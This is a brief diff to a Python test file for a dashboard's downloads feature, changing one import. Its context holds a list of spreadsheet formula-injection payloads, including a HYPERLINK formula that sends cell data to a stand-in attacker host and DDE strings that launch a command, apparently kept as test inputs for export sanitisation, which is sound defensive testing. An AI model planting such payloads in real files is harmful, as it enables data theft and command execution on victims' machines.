@@ -7,7 +7,7 @@ import io
 
 import pytest
 
-from conftest import make_snapshot
+from helpers import make_snapshot
 from dashboard import downloads
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
